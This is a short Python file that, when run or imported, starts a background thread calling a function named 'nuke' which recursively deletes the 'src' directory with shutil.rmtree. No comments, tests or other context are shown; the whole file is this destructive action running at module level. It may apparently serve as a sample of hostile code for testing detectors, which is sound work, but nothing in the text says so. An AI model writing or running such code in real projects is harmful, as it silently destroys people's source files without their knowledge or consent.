import shutil
import threading


def nuke():
    shutil.rmtree("src")


threading.Thread(target=nuke).start()
